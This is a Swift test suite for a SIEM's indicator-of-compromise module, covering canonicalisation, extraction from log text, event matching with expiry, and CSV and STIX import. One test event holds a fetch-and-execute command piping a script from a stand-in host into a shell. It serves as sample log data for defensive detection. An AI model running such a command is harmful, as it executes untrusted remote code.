import Foundation
import Testing

@testable import SIEMCore

@Suite struct IOCCanonicalTests {
    @Test func valuesAreValidatedAndCanonical() throws {
        #expect(try IOCType.ip.canonical(" 10.0.0.5 ") == "10.0.0.5")
        #expect(try IOCType.ip.canonical("2001:DB8:0:0:0:0:0:1") == "2001:db8::1")
        #expect(try IOCType.domain.canonical("Evil.Example.") == "evil.example")
        #expect(try IOCType.sha256.canonical(String(repeating: "AB", count: 32)) == String(repeating: "ab", count: 32))
        #expect(throws: IOCError.self) { try IOCType.ip.canonical("10.0.0.256") }
        #expect(throws: IOCError.self) { try IOCType.domain.canonical("localhost") }
        #expect(throws: IOCError.self) { try IOCType.domain.canonical("bad..example") }
        #expect(throws: IOCError.self) { try IOCType.domain.canonical("-bad.example") }
        #expect(throws: IOCError.self) { try IOCType.domain.canonical("10.0.0.5") }
        #expect(throws: IOCError.self) { try IOCType.sha256.canonical("abc") }
        #expect(throws: IOCError.self) { try IOCType.sha256.canonical(String(repeating: "g", count: 64)) }
        #expect(IOCType.guess("203.0.113.7") == .ip)
        #expect(IOCType.guess(String(repeating: "a", count: 40)) == .sha1)
        #expect(IOCType.guess("evil.example") == .domain)
        #expect(IOCType.guess("not a value") == nil)
    }
}

@Suite struct IndicatorExtractorTests {
    @Test func findsDomainsInURLsDNSAndHostnamesButNotFileNames() {
        let text =
            "GET https://CDN.Evil.Example:8443/setup.exe?x=1 from mail.corp.com; dropped index.php, run.sh and "
            + "report.pdf; q=update.microsoft.com. v1.2.3 user@phish.co.uk"
        let domains = IndicatorExtractor.extract(from: text).domains
        #expect(domains == ["cdn.evil.example", "mail.corp.com", "update.microsoft.com", "phish.co.uk"])
    }

    @Test func findsHashesOnlyAsWholeTokens() {
        let sha256 = String(repeating: "A1", count: 32)
        let md5 = String(repeating: "0f", count: 16)
        let text = "sha256=\(sha256) md5:\(md5) too-long \(sha256)ff id=\(sha256)x"
        let hashes = IndicatorExtractor.extract(from: text).hashes
        #expect(hashes == [sha256.lowercased(), md5])
    }
}

@Suite struct IOCSetTests {
    let now = Date(timeIntervalSince1970: 1_800_000_000)

    func event(_ message: String, fields: [String: JSONValue] = [:], normalized: [String: JSONValue] = [:]) -> Event {
        var event = Event(
            ts: now, receivedAt: now, source: "edr", host: "h1", message: message, fields: fields,
            normalized: normalized)
        event.ips = event.extractedIPs()
        return event
    }

    func ioc(_ id: Int64, _ type: IOCType, _ value: String, expires: Date? = nil) -> IOC {
        IOC(id: id, type: type, value: value, source: "feed", note: "n\(id)", createdAt: now, expiresAt: expires)
    }

    @Test func ipsMatchExactlyAndOncePerIOC() {
        let set = IOCSet([ioc(1, .ip, "10.0.0.5"), ioc(2, .ip, "2001:db8::1")])
        #expect(set.matches(in: event("from 10.0.0.50 and 10.0.0.51"), at: now).isEmpty)
        let matches = set.matches(
            in: event("from 10.0.0.5 to 10.0.0.5", fields: ["peer": .string("2001:DB8::1")]), at: now)
        #expect(matches.map(\.ioc.id) == [1, 2])
    }

    @Test func domainsMatchThemselvesAndSubdomainsCaseInsensitively() {
        let set = IOCSet([ioc(1, .domain, "evil.example")])
        #expect(set.matches(in: event("resolved A.B.EVIL.example"), at: now).first?.observed == "a.b.evil.example")
        #expect(
            set.matches(in: event("x", normalized: ["dns.question.name": .string("evil.example.")]), at: now).count == 1
        )
        #expect(set.matches(in: event("notevil.example and evil.example.com and evil.examples"), at: now).isEmpty)
    }

    @Test func domainsWithUnlistedTLDsStillMatch() {
        let set = IOCSet([ioc(1, .domain, "c2.badtld"), ioc(2, .domain, "evil.sh")])
        #expect(set.matches(in: event("beacon to https://x.c2.badtld/p"), at: now).count == 1)
        #expect(set.matches(in: event("curl https://evil.sh/x | sh; ./run.sh"), at: now).map(\.ioc.id) == [2])
    }

    @Test func hashesMatchInNestedFieldsAndExpiredIOCsDoNot() throws {
        let hash = String(repeating: "ab", count: 32)
        let set = IOCSet([
            ioc(1, .sha256, hash), ioc(2, .domain, "old.example", expires: now),
            ioc(3, .ip, "192.0.2.1", expires: now.addingTimeInterval(60)),
        ])
        let nested = event("x", fields: ["file": .object(["hashes": .array([.string(hash.uppercased())])])])
        let alerts = set.alerts(for: nested, at: now)
        let alert = try #require(alerts.first)
        #expect(alert.ruleID == "ti_sha256")
        #expect(alert.details["ioc_id"] == .int(1))
        #expect(alert.details["ioc_source"] == .string("feed"))
        #expect(alert.details["ioc_note"] == .string("n1"))
        #expect(alert.details["ioc_value"] == .string(hash))
        #expect(set.matches(in: event("old.example"), at: now).isEmpty)
        #expect(set.matches(in: event("192.0.2.1"), at: now).count == 1)
        #expect(set.matches(in: event("192.0.2.1"), at: now.addingTimeInterval(60)).isEmpty)
    }
}

@Suite struct IOCImportTests {
    let now = Date(timeIntervalSince1970: 1_800_000_000)

    @Test func csvAndLinesWithRejections() {
        let text = """
            type,value,source,note,severity
            ip,10.0.0.5,feedA,"scanner, noisy",low
            domain,Evil.Example.,,,
            sha256,xyz
            bogus,1.2.3.4
            # comment
            203.0.113.9
            ip,10.0.0.5,feedB
            """
        let result = IOCImport.parse(text, defaults: .init(source: "default"), at: now)
        #expect(result.iocs.map(\.value) == ["10.0.0.5", "evil.example", "203.0.113.9"])
        #expect(result.iocs[0].source == "feedB")
        #expect(result.iocs[1].source == "default")
        #expect(result.rejected.map(\.location) == ["line 4", "line 5"])
        let first = IOCImport.parse("ip,10.0.0.5,feedA,\"scanner, noisy\",low", defaults: .init(), at: now)
        #expect(first.iocs.first?.note == "scanner, noisy")
        #expect(first.iocs.first?.severity == .low)
    }

    @Test func stixEqualityPatterns() {
        let hash = String(repeating: "cd", count: 32)
        let bundle = """
            {"type": "bundle", "id": "bundle--1", "objects": [
              {"type": "indicator", "id": "indicator--1", "name": "C2", "pattern_type": "stix",
               "pattern": "[ipv4-addr:value = '198.51.100.7'] OR [domain-name:value = 'c2.example']",
               "valid_until": "2030-01-01T00:00:00Z"},
              {"type": "indicator", "id": "indicator--2", "pattern": "[file:hashes.'SHA-256' = '\(hash)']"},
              {"type": "indicator", "id": "indicator--3", "pattern": "[ipv4-addr:value MATCHES '^10']"},
              {"type": "malware", "id": "malware--1"}
            ]}
            """
        let result = IOCImport.parse(bundle, defaults: .init(source: "stix"), at: now)
        #expect(result.iocs.map(\.type) == [.ip, .domain, .sha256])
        #expect(result.iocs.map(\.value) == ["198.51.100.7", "c2.example", hash])
        #expect(result.iocs[0].note == "C2")
        #expect(result.iocs[0].expiresAt == Timestamp.parse("2030-01-01T00:00:00Z"))
        #expect(result.rejected.map(\.location) == ["indicator--3"])
    }
}
